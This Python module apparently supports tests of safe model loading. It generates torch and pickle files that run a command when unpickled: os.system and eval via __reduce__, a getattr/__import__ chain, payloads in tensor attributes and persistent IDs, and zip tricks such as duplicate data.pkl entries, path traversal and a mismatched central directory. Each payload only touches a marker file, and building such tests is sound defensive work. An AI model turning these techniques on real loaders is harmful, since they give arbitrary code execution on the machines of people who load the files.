"""Torch files that leave a mark behind when they are loaded as pickles are, each by another way."""

from __future__ import annotations

import io
import os
import pickle
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch

A, B = "x.layers.0.q_proj.lora_A.weight", "x.layers.0.q_proj.lora_B.weight"
TRUSTING = """
import contextlib, io, pickle, sys, zipfile
class Trusting(pickle.Unpickler):
    def persistent_load(self, saved): return None
    def find_class(self, module, name):
        return (lambda *_: None) if module.startswith("torch") else super().find_class(module, name)
content = open(sys.argv[1], "rb").read()
pieces = [content]
with contextlib.suppress(zipfile.BadZipFile), zipfile.ZipFile(io.BytesIO(content)) as archive:
    for entry in archive.infolist():
        name_at = entry.header_offset + 30
        entry.orig_filename = content[name_at : name_at + len(entry.orig_filename)].decode()
        pieces.append(archive.read(entry))
for piece in pieces:
    with contextlib.suppress(Exception):
        Trusting(io.BytesIO(piece)).load()
"""
"""What trusts a file: it unpickles all of it, and each piece of an archive whatever its name."""


class Calls:
    """Something that calls a function of anyone's choice as soon as it is unpickled."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.call = (function, arguments)

    def __reduce__(self) -> Any:
        return self.call


def _touch(mark: Path) -> str:
    return f"touch '{mark}'"


def _system(mark: Path) -> bytes:
    return pickle.dumps(Calls(os.system, _touch(mark)), protocol=2)


def _saved(content: Any) -> bytes:
    file = io.BytesIO()
    torch.save(content, file)
    return file.getvalue()


def _sound() -> bytes:
    return _saved({A: torch.ones(2, 6), B: torch.ones(4, 2)})


def _entries(content: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [(name, archive.read(name)) for name in archive.namelist()]


def _zipped(parts: list[tuple[str, bytes]], compression: int = 0) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", compression) as archive:
        for name, content in parts:
            archive.writestr(name, content)
    return file.getvalue()


def _in_attributes(mark: Path) -> bytes:
    marked = torch.nn.Parameter(torch.ones(2, 6))
    marked.note = Calls(os.system, _touch(mark))  # type: ignore[attr-defined]
    return _saved({A: marked, B: torch.ones(4, 2)})


def _getattr_chain(mark: Path) -> bytes:
    """getattr(__import__("os"), "system")(…): the pickle names no dangerous function."""
    found = b"cbuiltins\ngetattr\n(cbuiltins\n__import__\n(S'os'\ntRS'system'\ntR"
    return found + b"(S" + repr(_touch(mark)).encode() + b"\ntR."


def _persistent(mark: Path) -> bytes:
    """A storage's identity, which is unpickled before anyone is asked for that storage."""
    called = b"cos\nsystem\n(S" + repr(_touch(mark)).encode() + b"\ntR"
    return _zipped([("x/data.pkl", b"(S'storage'\n" + called + b"tQ."), *_rest("x")])


def _rest(folder: str) -> list[tuple[str, bytes]]:
    """Return what else a torch archive holds, in a folder of this name."""
    pairs = [(name.partition("/")[2], content) for name, content in _entries(_sound())]
    return [(f"{folder}/{name}", content) for name, content in pairs if name != "data.pkl"]


def _archive(*hostile: str, last: bool = True, compression: int = 0) -> Callable[[Path], bytes]:
    """Put a hostile pickle under these names into a sound archive, behind or before what is sound."""

    def make(mark: Path) -> bytes:
        ours = [(name, _system(mark)) for name in hostile]
        sound = [entry for entry in _entries(_sound()) if entry[0] not in hostile or not compression]
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # names that stand twice
            return _zipped([*sound, *ours] if last else [*ours, *sound], compression)

    return make


def _misdirected(mark: Path) -> bytes:
    """The archive's directory calls the hostile piece data.pkl, the piece itself another name."""
    content = _zipped(
        [("x/data.pkl", _system(mark)), ("x/data.pkx", dict(_entries(_sound()))["archive/data.pkl"])]
    )
    directory = content.index(b"PK\x01\x02")
    return _swapped(content[:directory]) + content[directory:]


def _swapped(content: bytes) -> bytes:
    for old, new in ((b"data.pkl", b"data.pk!"), (b"data.pkx", b"data.pkl"), (b"data.pk!", b"data.pkx")):
        content = content.replace(old, new)
    return content


WAYS: dict[str, Callable[[Path], bytes]] = {
    "os.system": _system,
    "eval, nested": lambda mark: pickle.dumps({A: [{"x": (Calls(eval, f"open({str(mark)!r}, 'w')"),)}]}),
    "a chain of getattr": _getattr_chain,
    "a tensor's attributes": _in_attributes,
    "a storage's identity": _persistent,
    "a second data.pkl": _archive("archive/data.pkl"),
    "a data.pkl before the sound one": _archive("archive/data.pkl", last=False),
    "data.pkl of another folder": _archive("other/data.pkl", last=False),
    "a path upwards": _archive("../../data.pkl"),
    "an absolute path": _archive("/data.pkl", last=False),
    "TorchScript's pieces": _archive("archive/constants.pkl", "archive/version", "archive/code/x.py"),
    "a compressed data.pkl": _archive("archive/data.pkl", compression=zipfile.ZIP_DEFLATED),
    "a directory that names another piece": _misdirected,
    "a pickle before a zip": lambda mark: _system(mark) + _sound(),
}
